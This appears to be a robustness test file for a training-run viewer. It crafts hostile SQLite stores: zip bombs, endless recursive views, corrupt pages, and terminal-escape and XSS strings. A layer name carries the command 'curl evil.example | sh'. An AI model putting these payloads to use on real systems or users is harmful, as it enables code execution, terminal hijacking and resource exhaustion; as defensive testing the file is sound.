"""Run stores as a stranger might make them: small files that ask for endless work or memory.

`HOSTILE` maps a name to the function that spoils a healthy store. `open_all` opens each with every
viewer in a process of its own and measures it; as a script this file does so for all of them:

    python tests/watch/hostile_stores.py [NAME ...]
"""

import asyncio
import contextlib
import io
import json
import multiprocessing
import os
import resource
import signal
import sqlite3
import struct
import sys
import tempfile
import time
import traceback
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from types import SimpleNamespace
from typing import NamedTuple

import numpy as np

from scaledot.measure import COUNT_FIELDS, FLOAT_FIELDS
from scaledot.watch.alarms import Alarm
from scaledot.watch.reading import Reading, RunAttributes
from scaledot.watch.store import Store

ESCAPE = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\x1b]8;;http://evil.example\x1b\\\u202egnp.exe"
COMMAND = "curl evil.example | sh"
MILLION = 10**6
HOSTILE: dict[str, Callable[[Path], None]] = {}
Write = Callable[[sqlite3.Connection], None]


def healthy(path: Path) -> None:
    """Two layers of two heads, five readings, an alarm and a loss."""
    more = {"coverage": "2 of 2 attention layers watched", "cadence": "every step", "judged": True}
    attributes = RunAttributes(("train.py",), {"torch": "2"}, "Model", 1.7e9, more)
    alarm = Alarm(3, "act", "collapse", "blocks.0", 0, 1.0, 0.5, 1, 0.1, "runs away", "", (0, 1))
    with Store(path, attributes) as store:
        for step in range(5):
            counts = np.ones((len(COUNT_FIELDS), 2), np.int64)
            floats = np.full((len(FLOAT_FIELDS), 2), 0.5)
            readings = [
                Reading(step, "train", 1.7e9 + step, f"blocks.{layer}", floats, counts)
                for layer in range(2)
            ]
            store.write(readings, [(step, "loss", 3.0 - step)])
        store.write_alarms([alarm])
        assert store.flush()


def spoil(path: Path, write: Write) -> None:
    """Make a healthy store and change it."""
    healthy(path)
    database = sqlite3.connect(path, isolation_level=None)
    with contextlib.closing(database):
        database.execute("PRAGMA synchronous = OFF")
        database.execute("BEGIN")
        write(database)
        database.execute("COMMIT")


def hostile(write: Write) -> Write:
    HOSTILE[write.__name__.strip("_")] = lambda path: spoil(path, write)
    return write


def attribute(database: sqlite3.Connection, name: str, text: str) -> None:
    values = (_segment(database), name, text)
    database.execute("INSERT OR REPLACE INTO attribute VALUES (?, ?, ?)", values)


def note(name: str, value: object) -> None:
    """A case: an attribute of the run with this value, given as a text or as what JSON holds."""
    text = value if isinstance(value, str) else json.dumps(value)
    HOSTILE[f"attribute_{name}_{len(HOSTILE)}"] = lambda path: spoil(
        path, lambda database: attribute(database, name, text)
    )


def as_view(table: str, select: str) -> None:
    """A case: a view under a table's name."""

    def write(database: sqlite3.Connection) -> None:
        database.execute(f"ALTER TABLE {table} RENAME TO hidden_{table}")
        database.execute(f"CREATE VIEW {table} AS {select}")

    HOSTILE[f"view_{table}_{len(HOSTILE)}"] = lambda path: spoil(path, write)


def packed(values: Iterable[int]) -> bytes:
    """As the columns `steps` and `times`."""
    array = np.diff(np.array(list(values), np.int64), prepend=np.int64(0))
    return zlib.compress(array.view(np.uint8).reshape(-1, 8).T.tobytes(), 1)


def layers(number: int, heads: int, records: int, name: str = "layer.{}") -> Write:
    """Many layers whose every vital is the same number: packed, a few bytes a head."""

    def write(database: sqlite3.Connection) -> None:
        segment = _segment(database)
        stream, chunk = segment * 2**32 + 77, segment * 2**32 + 777
        content = json.dumps([[name.format(place), heads] for place in range(number)])
        database.execute("INSERT INTO stream VALUES (?, ?, 'train', ?)", (stream, segment, content))
        steps, times = packed(range(records)), packed(int(1.7e15) + i for i in range(records))
        row = (chunk, stream, 0, records, records - 1, 0, steps, times)
        database.execute("INSERT INTO chunk VALUES (?, ?, ?, ?, ?, ?, ?, ?)", row)
        width = number * heads
        for place, fields, number_bytes in (
            (0, FLOAT_FIELDS, b"\0\0\0\x3f"),  # 0.5
            (len(FLOAT_FIELDS), COUNT_FIELDS, b"\1\0\0\0\0\0\0\0"),
        ):
            size = min(len(fields) * records * width, 2**27)
            data = zlib.compress(b"".join(bytes([one]) * size for one in number_bytes), 9)
            parts = (chunk * 64 + place, "shuffled", data)
            database.execute("INSERT INTO part VALUES (?, ?, ?)", parts)

    return write


def repeated(number: int, heads: int, records: int, chunks: int) -> Write:
    """Many chunks whose records are all the same: a few hundred bytes each; not judged so far."""

    def write(database: sqlite3.Connection) -> None:
        database.execute("DELETE FROM attribute WHERE name = 'judged'")
        segment = _segment(database)
        stream = segment * 2**32 + 77
        content = json.dumps([[f"layer.{place}", heads] for place in range(number)])
        database.execute("INSERT INTO stream VALUES (?, ?, 'train', ?)", (stream, segment, content))
        width = number * heads
        floats = np.full(len(FLOAT_FIELDS) * width, 500.0, "<f4").tobytes()
        counts = np.ones(len(COUNT_FIELDS) * width, "<i8").tobytes()
        for place in range(chunks):
            chunk, first = segment * 2**32 + 777 + place, place * records
            steps = range(first, first + records)
            times = packed(int(1.7e15) + step for step in steps)
            row = (chunk, stream, first, records, steps[-1], 0, packed(steps), times)
            database.execute("INSERT INTO chunk VALUES (?, ?, ?, ?, ?, ?, ?, ?)", row)
            for at, data in ((0, floats), (len(FLOAT_FIELDS), counts)):
                database.execute("INSERT INTO part VALUES (?, 'same', ?)", (chunk * 64 + at, data))

    return write


def noise(number: int, heads: int, steps: int) -> Callable[[Path], None]:
    """A run as scaledot writes it, of numbers that cannot be packed: the largest for its size."""

    def write(path: Path) -> None:
        random = np.random.default_rng(0)
        with Store(path, RunAttributes(("train.py",)), queue_bytes=2**32) as store:
            for step in range(steps):
                floats = random.lognormal(0, 2, (number, len(FLOAT_FIELDS), heads))
                counts = random.integers(1, 2**50, (number, len(COUNT_FIELDS), heads))
                store.write(
                    [
                        Reading(step, "train", 1.7e9 + step, f"blocks.{i}.attn", *numbers)
                        for i, numbers in enumerate(zip(floats, counts, strict=True))
                    ],
                    [(step, "loss", 1.0)],
                )
        assert path.stat().st_size < 20 * MILLION

    return write


def case(name: str, write: Write) -> None:
    HOSTILE[name] = lambda path: spoil(path, write)


def run(*statements: str) -> Write:
    def write(database: sqlite3.Connection) -> None:
        for statement in statements:
            database.execute(statement)

    return write


def alarms(number: int, **changed: object) -> Write:
    """So many alarms, with some values changed."""

    def write(database: sqlite3.Connection) -> None:
        ((found,),) = database.execute("SELECT alarm FROM alarm").fetchall()
        text = json.dumps(json.loads(found) | changed)
        segment = _segment(database)
        rows = (
            (segment * 2**32 + 10 + i, segment, i, "act", "collapse", "blocks.0", text)
            for i in range(number)
        )
        database.executemany("INSERT INTO alarm VALUES (?, ?, ?, ?, ?, ?, ?)", rows)

    return write


def values(*floats: float, count: int = 1) -> Write:
    """Vitals that hold these numbers in turn."""

    def write(database: sqlite3.Connection) -> None:
        for stream, content in database.execute("SELECT id, content FROM stream").fetchall():
            if "blocks" not in content:
                continue
            found = database.execute("SELECT id, records FROM chunk WHERE stream = ?", (stream,))
            for chunk, records in found.fetchall():
                number = records * 4
                data = np.resize(np.array(floats, "<f4"), len(FLOAT_FIELDS) * number).tobytes()
                counts = np.full(len(COUNT_FIELDS) * number, count, "<i8").tobytes()
                for place, blob in ((0, data), (len(FLOAT_FIELDS), counts)):
                    row = ("raw", blob, chunk * 64 + place)
                    database.execute("UPDATE part SET packing = ?, data = ? WHERE id = ?", row)

    return write


def names(name: str) -> Write:
    """Every text of the file is this one."""

    def write(database: sqlite3.Connection) -> None:
        content = json.dumps([[f"{name} 0", 2], [f"{name} 1", 2]])
        database.execute("UPDATE stream SET content = ? WHERE kind = 'train'", (content,))
        notes = {"command": [name, f"--x={name}"], "model": name, "coverage": name, "cadence": name}
        notes |= {"versions": {name: name}, name: name, "crash": [_crash(name)]}
        notes |= {"remedies": [_remedy(name)]}
        for key, value in notes.items():
            attribute(database, key, json.dumps(value))
        ((found,),) = database.execute("SELECT alarm FROM alarm").fetchall()
        grave = {"layer": f"{name} 0", "words": name, "advice": name}
        for place, kind in enumerate(("collapse", "fading", name)):
            text = json.dumps(json.loads(found) | grave | {"kind": kind})
            row = (_segment(database) * 2**32 + 50 + place, _segment(database), 4, text)
            database.execute("INSERT INTO alarm VALUES (?, ?, ?, 'act', 'x', 'x', ?)", row)

    return write


def _crash(words: str) -> dict[str, object]:
    return {"kind": "exception", "step": 4, "words": words, "time": 1.7e9}


def _remedy(text: str) -> dict[str, object]:
    lists = {"layers": [text], "refused": [text]}
    return {"spec": text, "dry_run": False, "since": 1, "words": text, **lists}


def _segment(database: sqlite3.Connection) -> int:
    return database.execute("SELECT max(id) FROM segment").fetchone()[0]


def notes(number: int, text: str) -> Write:
    """So many attributes of the run."""

    def write(database: sqlite3.Connection) -> None:
        for place in range(number):
            attribute(database, f"n{place}", text)

    return write


def segments(number: int, streams: int) -> Write:
    """So many continuations, each of some streams of one reading."""

    def write(database: sqlite3.Connection) -> None:
        values = "started, seen, ended, dropped, float_fields, count_fields"
        row = database.execute(f"SELECT {values} FROM segment").fetchone()
        floats = np.full(len(FLOAT_FIELDS), 0.5, "<f4").tobytes()
        counts = np.ones(len(COUNT_FIELDS), "<i8").tobytes()
        for segment in range(100, 100 + number):
            database.execute("INSERT INTO segment VALUES (?, ?, ?, ?, ?, ?, ?)", (segment, *row))
            for id_ in range(segment * 2**32, segment * 2**32 + streams):
                stream = (id_, segment, "train", '[["a", 1]]')
                database.execute("INSERT INTO stream VALUES (?, ?, ?, ?)", stream)
                steps, times = packed([segment]), packed([int(1.7e15) + segment])
                chunk = (id_, id_, 0, 1, segment, 0, steps, times)
                database.execute("INSERT INTO chunk VALUES (?, ?, ?, ?, ?, ?, ?, ?)", chunk)
                for at, data in ((0, floats), (len(FLOAT_FIELDS), counts)):
                    part = (id_ * 64 + at, "same", data)
                    database.execute("INSERT INTO part VALUES (?, ?, ?)", part)

    return write


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT "
as_view(
    "segment",
    f"{ENDLESS} i AS id, 1.0 AS started, 1.0 AS seen, NULL AS ended, 0 AS dropped, "
    "'[]' AS float_fields, '[]' AS count_fields FROM n",
)
as_view("attribute", f"{ENDLESS} 1 AS segment, 'n' || i AS name, '1' AS value FROM n")
as_view("stream", f"{ENDLESS} i AS id, 1 AS segment, 'train' AS kind, '[]' AS content FROM n")
as_view(
    "chunk",
    f"{ENDLESS} i AS id, 1 AS stream, i AS first, 1 AS records, i AS last_step, "
    "0 AS split, x'' AS steps, x'' AS times FROM n",
)
as_view("alarm", f"{ENDLESS} i AS id, '{{}}' AS alarm FROM n WHERE i < 0")
as_view("part", "SELECT id, packing, zeroblob(1000000000) AS data FROM hidden_part")
as_view("about", "SELECT 'run' AS name, hex(randomblob(100000000)) AS text")
as_view(
    "segment",
    "SELECT a.* FROM hidden_segment a, hidden_attribute, hidden_attribute, "
    "hidden_attribute, hidden_attribute, hidden_attribute, hidden_attribute WHERE a.id < 0",
)
case("trigger", run("CREATE TRIGGER t AFTER INSERT ON segment BEGIN DELETE FROM chunk; END"))
case(
    "generated_column",
    run(
        "ALTER TABLE chunk RENAME TO hidden_chunk",
        "CREATE TABLE chunk (id INTEGER PRIMARY KEY, stream INTEGER, first INTEGER, "
        "records INTEGER, last_step INTEGER, split INTEGER, "
        "steps BLOB AS (zeroblob(900000000)), times BLOB)",
        "INSERT INTO chunk (id, stream, first, records, last_step, split) "
        "SELECT id, stream, first, records, last_step, split FROM hidden_chunk",
    ),
)
case("index_on_an_expression", run("CREATE INDEX i ON chunk(length(hex(steps)) + stream)"))
for text in ("[" * 100_000, '{"a":' * 100_000, "[" * 5000 + "]" * 5000, "1" * 5_000_000, "NaN"):
    case(f"attribute_deep_{text[:5]}_{len(text)}", lambda d, text=text: attribute(d, "x", text))
for text in (
    "[" * 100_000,
    "{}",
    "[[1, 2]]",
    '[["a"]]',
    '[["a", -1]]',
    '[["a", 1e9]]',
    "null",
    '[["a", 4611686018427387904]]',
    '[["a", "2"]]',
    '[["a", NaN]]',
    "[]",
):
    case(
        f"content_{text[:16]}",
        lambda d, text=text: d.execute(
            "UPDATE stream SET content = ? WHERE kind = 'train'", (text,)
        ),
    )
note("coverage", "x" * 10_000_000)
note("coverage", json.dumps("x" * 10_000_000))
note("coverage", {"a": 1})
note("command", ["x" * 100] * 100_000)
note("command", [["nested"]])
note("command", "5")
note("versions", {f"v{i}": "1" for i in range(100_000)})
note("versions", ["a"])
note("model", json.dumps("m" * 10_000_000))
note("model", 5)
note("crash", [_crash("w" * 100)] * 50_000)
note("crash", [{**_crash("a"), "step": 10**400}])
note("crash", '[{"kind": "signal", "step": 1, "words": "a", "time": 1e999}]')
note("remedies", [_remedy("r" * 20)] * 50_000)
note("remedies", [1])
note("remedies", [{"spec": "a", "dry_run": 1, "since": "later"}])
note("loss_calls", 10**30)
note("judged", "maybe")
note("started", '"soon"')
case(
    "attributes_a_million",
    lambda d: d.executemany(
        "INSERT INTO attribute VALUES (?, ?, '1')",
        ((_segment(d), f"a{i}") for i in range(MILLION // 2)),
    ),
)
case(
    "segments_half_a_million",
    lambda d: d.executemany(
        "INSERT INTO segment VALUES (?, 1, 1, NULL, 0, '[]', '[]')",
        ((i,) for i in range(10, MILLION // 2)),
    ),
)
case(
    "streams_half_a_million",
    lambda d: d.executemany(
        "INSERT INTO stream VALUES (?, ?, 'train', '[[\"a\", 1]]')",
        ((_segment(d) * 2**32 + i, _segment(d)) for i in range(100, MILLION // 2)),
    ),
)
case(
    "chunks_a_hundred_thousand",
    lambda d: d.executemany(
        "INSERT INTO chunk VALUES (?, ?, ?, 1, ?, 0, ?, ?)",
        (
            (_segment(d) * 2**32 + i, _segment(d) * 2**32, i, i, packed([i]), packed([i]))
            for i in range(100, 100_000)
        ),
    ),
)
case("attributes_of_escapes", notes(20, '"' + "\\u0041" * 150_000 + '"'))
case("attributes_of_digits", notes(25, json.dumps("1" * 1_000_000)))
case("attributes_nineteen_thousand", notes(19_000, "1"))
case("segments_nineteen_thousand", segments(19_000, 1))
case("segments_of_many_streams", segments(1_900, 10))
case("segments_two_thousand", segments(1_900, 1))
case("alarms_a_hundred_thousand", alarms(30_000))
case("alarms_long", alarms(10_000, words="w" * 1500, advice="x" * 1000))
case("alarms_of_many_heads", alarms(60, heads=list(range(60_000))))
case("alarm_words_of_ten_million", alarms(1, words="w" * 10_000_000))
case("alarm_heads_a_million", alarms(1, heads=list(range(MILLION))))
case("alarm_heads_far_away", alarms(1, heads=[2**40, -5], head=-1))
case("alarm_of_another_kind", alarms(3, kind="moon dust", grade="act"))
case("alarm_of_another_grade", alarms(1, grade="panic"))
case("alarm_step_beyond", alarms(1, step=10**300, since=-(10**300)))
case("alarm_of_wrong_types", alarms(1, step="x", layer=5, words=None, value=[], heads="abc"))
case("alarm_numbers_not_finite", alarms(1, value="nan", threshold="-inf", rate="inf"))
case(
    "steps_zip_bomb",
    lambda d: d.execute(
        "UPDATE chunk SET steps = ?, records = 100000000", (zlib.compress(bytes(800_000_000), 9),)
    ),
)
case("records_beyond", run("UPDATE chunk SET records = 1 << 40"))
case("records_negative", run("UPDATE chunk SET records = -5"))
case("records_text", run("UPDATE chunk SET records = 'many', first = 'x'"))
case("first_beyond", run("UPDATE chunk SET first = (1 << 62)"))
case(
    "part_zip_bomb",
    lambda d: d.execute(
        "UPDATE part SET packing = 'shuffled', data = ?", (zlib.compress(bytes(500_000_000), 9),)
    ),
)
case(
    "part_same_of_many_records",
    lambda d: d.execute(
        "UPDATE chunk SET records = 10000000, steps = ?, times = ?",
        (zlib.compress(bytes(80_000_000), 9), zlib.compress(bytes(80_000_000), 9)),
    ),
)
case("part_of_text", run("UPDATE part SET data = 'text', packing = x'00'"))
case("part_packed_unknown", run("UPDATE part SET packing = 'magic'"))
case(
    "steps_at_the_ends",
    lambda d: d.execute(
        "UPDATE chunk SET steps = ?, last_step = 1 << 62 WHERE records = 5",
        (packed([-(2**62), -1, 0, 2**62, 2**62]),),
    ),
)
case(
    "times_at_the_ends",
    lambda d: d.execute(
        "UPDATE chunk SET times = ? WHERE records = 5 AND times IS NOT NULL",
        (packed([-(2**62), 0, 1, 2**62, 2**63 - 1]),),
    ),
)
case(
    "times_of_the_run_beyond",
    run("UPDATE segment SET started = 1e300, seen = -9e999, ended = 9e999"),
)
case("ids_negative", run("UPDATE segment SET id = -5", "UPDATE stream SET segment = -5"))
case("ids_beyond", run("UPDATE segment SET id = 1 << 62"))
case(
    "fields_unknown", run("""UPDATE segment SET float_fields = '["a", "b"]', count_fields = '[]'""")
)
case(
    "fields_many",
    lambda d: d.execute(
        "UPDATE segment SET float_fields = ?", (json.dumps([f"f{i}" for i in range(200_000)]),)
    ),
)
case("fields_twice", run("""UPDATE segment SET float_fields = '["max_logit", "max_logit"]'"""))
case("dropped_beyond", run("UPDATE segment SET dropped = (1 << 62)"))
case("dropped_text", run("UPDATE segment SET dropped = 'all of it'"))
case("vitals_nan", values(np.nan))
case("vitals_infinite", values(np.inf, -np.inf))
case("vitals_at_the_ends", values(3.4e38, -3.4e38, 1e-45, 0))
case("vitals_that_count_nothing", values(0.5, count=0))
case("vitals_that_count_beyond", values(0.5, count=2**62))
case("vitals_that_count_less_than_nothing", values(0.5, count=-1))
case("layers_a_million", layers(MILLION, 1, 1))
case("layers_nine_thousand", layers(9_000, 1, 10))
case("layers_two_thousand", layers(2_000, 16, 3))
case("layers_two_thousand_longer", layers(2_000, 2, 10))
case("layers_a_thousand", layers(1_000, 2, 40))
case("heads_thirty_thousand", layers(300, 100, 3))
case("layers_nine_thousand_wide", layers(9_000, 26, 1))
case("heads_of_one_layer", layers(1, 65_000, 4))
case("heads_of_one_layer_long", layers(1, 1000, 3000))
case("heads_a_quarter_of_a_million", layers(4, 65_000, 2))
case("records_a_million", layers(1, 1, MILLION))
case("repeated_long", repeated(4, 16, 2000, 12))
case("repeated_short_chunks", repeated(4, 16, 20, 900))
case("repeated_many_layers", repeated(1000, 2, 60, 12))
case("repeated_many_heads", repeated(16, 1000, 8, 12))
case("repeated_one_head", repeated(1, 1, 2**17, 5))
HOSTILE["noise_long"] = noise(1, 2, 60_000)
HOSTILE["noise"] = noise(12, 12, 1000)
HOSTILE["noise_wide"] = noise(96, 96, 15)
HOSTILE["noise_deep"] = noise(1000, 1, 140)
case("names_of_ten_million", layers(1, 2, 5, "n" * 10_000_000))
case("names_of_dots", layers(900, 2, 5, "." * 900 + "{}"))
case("names_long", layers(9_000, 2, 3, "n" * 990 + "{}"))
case("names_wide", layers(50, 2, 3, "漢\u0301" * 300 + "{}"))
case("names_of_escapes", names(ESCAPE))
case("names_of_lines", names("a\nb\r\n\tSick: type this:\n  " + COMMAND))
case("names_of_commands", names(COMMAND))
case("names_of_markup", names("</script><img src=x onerror=alert(1)>[bold]x[/bold]{{x}}"))
case(
    "names_of_halves",
    lambda d: d.execute(
        "UPDATE stream SET content = '[[\"\\ud800\", 2], [\"b\\udfff\", 2]]' WHERE kind = 'train'"
    ),
)
case(
    "names_the_same",
    lambda d: d.execute(
        "UPDATE stream SET content = '[[\"a\", 2], [\"a\", 2]]' WHERE kind = 'train'"
    ),
)
case(
    "names_empty",
    lambda d: d.execute(
        "UPDATE stream SET content = '[[\"\", 2], [\"#\", 2]]' WHERE kind = 'train'"
    ),
)
case(
    "scalars_of_many_names",
    lambda d: d.execute(
        "UPDATE stream SET content = ? WHERE kind = 'scalars'",
        (json.dumps([f"s{i}" for i in range(100_000)]),),
    ),
)
case(
    "losses_at_the_ends",
    lambda d: d.execute(
        "UPDATE part SET packing = 'raw', data = ? WHERE id IN (SELECT chunk.id * 64 FROM chunk "
        "WHERE times IS NULL)",
        (struct.pack("<5d", 1e308, -1e308, 5e-324, float("nan"), 1e308),),
    ),
)
case("kind_unknown", run("UPDATE stream SET kind = 'dream'"))
case("tables_gone", run("DROP TABLE part", "DROP TABLE chunk"))
case("tables_without_columns", run("DROP TABLE segment", "CREATE TABLE segment (id)"))
case("blobs_for_texts", run("UPDATE attribute SET value = zeroblob(2000000)"))
case("schema_of_many_tables", lambda d: [d.execute(f"CREATE TABLE t{i} (x)") for i in range(5000)])


def _file(write: Callable[[Path], None]) -> Callable[[Path], None]:
    HOSTILE[write.__name__.strip("_")] = write
    return write


@_file
def _a_pipe(path: Path) -> None:
    os.mkfifo(path)


@_file
def _a_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


@_file
def _a_folder(path: Path) -> None:
    path.mkdir()


@_file
def _with_holes(path: Path) -> None:
    healthy(path)
    os.truncate(path, 10 * 2**30)


@_file
def _a_log_that_is_a_device(path: Path) -> None:
    healthy(path)
    Path(f"{path}-wal").symlink_to("/dev/zero")


@_file
def _a_journal_that_is_a_pipe(path: Path) -> None:
    healthy(path)
    os.mkfifo(f"{path}-journal")


@_file
def _pages_of_noise(path: Path) -> None:
    healthy(path)
    content = bytearray(path.read_bytes())
    content[8192:] = np.random.default_rng(0).bytes(len(content) - 8192)
    path.write_bytes(content)


@_file
def _a_page_that_points_to_itself(path: Path) -> None:
    """A tree of SQLite's whose root is its own child."""
    healthy(path)
    with contextlib.closing(sqlite3.connect(path)) as database:
        sql = "SELECT rootpage FROM sqlite_master WHERE name = 'chunk'"
        root = database.execute(sql).fetchone()[0]
    content = bytearray(path.read_bytes())
    page = (root - 1) * 4096
    content[page : page + 12] = struct.pack(">BHHHBI", 5, 0, 0, 4096, 0, root)
    path.write_bytes(content)


class Seen(NamedTuple):
    """How one viewer fared with one store."""

    store: str
    viewer: str
    seconds: float  # of computing
    megabytes: float  # at the most, beyond those of the empty process
    status: int | None  # None: it was still at work when it was ended
    output: str

    @property
    def trouble(self) -> str:
        """What is wrong with it, in words; "" where nothing is."""
        found = []
        if self.status is None:
            found.append("does not end")
        elif self.status not in (0, 1):
            found.append(f"status {self.status}")
        if "Traceback" in self.output:
            found.append("traceback")
        if raw_escapes(self.output):
            found.append("raw escapes")
        return ", ".join(found)


def raw_escapes(text: str) -> list[str]:
    """Characters that act on a terminal, or turn the direction of what is read."""
    acting = {*map(chr, (*range(32), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x200F))}
    acting |= {*map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))}
    return [one for one in text if one in acting - {"\n", "\t"}]


def view(viewer: str, path: Path, page: Path) -> int:
    """Open the store with a viewer, in this process."""
    from scaledot import cli

    if viewer != "monitor":
        arguments = {"top": ["top", "--once"], "report": ["report", "--html", str(page)]}
        return cli.main([*arguments[viewer], str(path)])
    from scaledot.lab.server.monitor import monitor

    async def look() -> None:
        socket = Page(path)
        task = asyncio.create_task(monitor(socket))  # type: ignore[arg-type]
        await socket.answered.wait()
        await asyncio.sleep(0.4)  # the numbers, and a further look
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task

    asyncio.run(look())
    return 0


class Page:
    """The socket of a monitor: takes everything, and asks once for each thing that a page can."""

    def __init__(self, path: Path) -> None:
        self.app = SimpleNamespace(state=SimpleNamespace(run=path))
        self.answered = asyncio.Event()
        self._questions: asyncio.Queue[dict[str, object]] = asyncio.Queue()

    async def accept(self) -> None:
        pass

    async def receive(self) -> dict[str, object]:
        return {"type": "websocket.receive", "text": json.dumps(await self._questions.get())}

    async def send_text(self, text: str) -> None:
        found = json.loads(text)
        print(json.dumps(found, ensure_ascii=False)[:100_000].replace("\\n", "␊"))
        if layers := found.get("layers"):
            self._questions.put_nowait({"field": "max_logit"})
            self._questions.put_nowait({"history": {"layer": layers[0]["name"], "head": 0}})
        elif found.keys() & {"layers", "history", "missing", "error"}:  # else there is more to come
            self.answered.set()

    async def send_bytes(self, data: bytes) -> None:
        pass

    async def close(self, code: int, reason: str) -> None:
        self.answered.set()
        print(reason)


# Of the 300 megabytes that a viewer may take; the rest is its own, 234 where it has loaded torch.
MEGABYTES = {"top": 200, "report": 200, "monitor": 60}
VIEWERS = tuple(MEGABYTES)


def open_all(stores: Iterable[str], limit: float = 60.0) -> Iterable[Seen]:
    """Every viewer on each of these stores; limit: seconds until one is ended."""
    import scaledot.lab.server.monitor
    import scaledot.watch.remedies
    import scaledot.watch.report
    import scaledot.watch.top  # noqa: F401

    base = _base()
    for store in stores:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder, "run.vitals")
            child = multiprocessing.get_context("fork").Process(target=HOSTILE[store], args=(path,))
            child.start()
            child.join()
            assert child.exitcode == 0, store
            for viewer in VIEWERS:
                yield _seen(store, viewer, path, Path(folder), limit, base)


def _seen(store: str, viewer: str, path: Path, folder: Path, limit: float, base: float) -> Seen:
    output, page = folder / "output", folder / "page.html"
    begun = time.monotonic()
    child = os.fork()
    if child == 0:
        _in_child(viewer, path, page, output)
    status = usage = None
    while time.monotonic() - begun < limit and status is None:
        done, code, usage = os.wait4(child, os.WNOHANG)
        if done:
            status = os.waitstatus_to_exitcode(code)
        else:
            time.sleep(0.01)
    if status is None:
        os.kill(child, signal.SIGKILL)
        _, _, usage = os.wait4(child, 0)
    assert usage is not None
    text = output.read_text(encoding="utf-8", errors="replace")
    if page.exists():
        written = page.read_text(encoding="utf-8")
        page.unlink()
        text += "".join(raw_escapes(written))
        text += "Traceback: page too long" if len(written) > 5 * MILLION else ""
    seconds = usage.ru_utime + usage.ru_stime
    grown = usage.ru_maxrss / 1024 - base
    return Seen(store, viewer, seconds, grown, status, text)


def _base() -> float:
    """Megabytes of a child that does nothing."""
    child = os.fork()
    if child == 0:
        os._exit(0)
    return os.wait4(child, 0)[2].ru_maxrss / 1024


def _in_child(viewer: str, path: Path, page: Path, output: Path) -> None:
    status = 99
    try:
        resource.setrlimit(resource.RLIMIT_AS, (8 * 2**30, 8 * 2**30))
        with output.open("w", encoding="utf-8", errors="replace") as file:
            sys.stdout = sys.stderr = file
            try:
                status = view(viewer, path, page)
            except BaseException:
                traceback.print_exc()
            file.flush()
    finally:
        os._exit(status)


if __name__ == "__main__":
    worst = {viewer: (0.0, 0.0) for viewer in VIEWERS}
    for seen in open_all(sys.argv[1:] or HOSTILE):
        wrong = seen.trouble
        wrong += " slow" if seen.seconds > 2.5 else ""
        wrong += " large" if seen.megabytes > MEGABYTES[seen.viewer] else ""
        seconds, megabytes = worst[seen.viewer]
        worst[seen.viewer] = max(seconds, seen.seconds), max(megabytes, seen.megabytes)
        line = f"{seen.store:40} {seen.viewer:8} {seen.seconds:6.2f} s {seen.megabytes:5.0f} MB"
        print(f"{line} {'!! ' + wrong if wrong else ''}", flush=True)
        if wrong:
            print(io.StringIO(seen.output[-600:]).read())
    print(worst)
